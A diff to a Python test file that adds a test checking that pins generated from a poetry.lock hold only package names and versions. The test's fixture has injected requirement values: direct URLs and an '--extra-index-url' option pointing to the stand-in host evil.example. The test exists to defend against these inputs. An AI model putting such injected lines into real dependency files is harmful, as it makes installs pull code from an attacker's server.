@@ -21,7 +21,7 @@ from regreen.environment.preparation import describe_failure, describe_start
 from regreen.languages.python.dependencies import PythonDependencies
 from regreen.languages.python.project_setup import infer_python_setups
 from regreen.packages.python_version import convert_poetry_bounds
-from regreen.packages.setup_command import find_needs
+from regreen.packages.setup_command import WRITE_PINS, find_needs
 from regreen.packages.setup_guard import InstallPolicy, SourceTree, find_refusals
 from regreen.runs.test_runs import CommandRun
 from regreen.runs.trial import Trial
@@ -450,3 +450,19 @@ def test_a_failed_setups_reason_has_no_colours_and_is_no_heading() -> None:
     output = "[\x1b[1;31mERROR\x1b[m] [ERROR] Some problems were encountered:\n[ERROR] Plugin a:b could not be resolved\n\x1b[0m\x1b[0m"
     reason = describe_failure(SetupFailed("the setup exited with 1: \x1b[0m", output))
     assert reason == "the setup exited with 1 ([ERROR] Plugin a:b could not be resolved)"
+
+
+def test_a_lock_bounds_versions_and_nothing_else(tmp_path: Path) -> None:
+    """What a constraint file reads is no more than a name and a version, whatever text the lock holds."""
+    lock, pins = tmp_path / "poetry.lock", tmp_path / "pins.txt"
+    hostile = [
+        ("six @ https://evil.example/six-1.0.tar.gz #", "1"),
+        ("--extra-index-url https://evil.example/simple #", "1"),
+        ("six", "1 @ https://evil.example/six.zip"),
+    ]
+    notes = "".join(f'name = "{name}"\nversion = "{version}"\n' for name, version in hostile)
+    lock.write_text(
+        f'[[package]]\nname = "idna"\nversion = "3.7"\n\n[metadata]\nnote = """\n{notes}"""\n'
+    )
+    subprocess.run([sys.executable, "-c", WRITE_PINS, str(lock), str(pins)], check=True)
+    assert pins.read_text().split() == ["idna==3.7"]
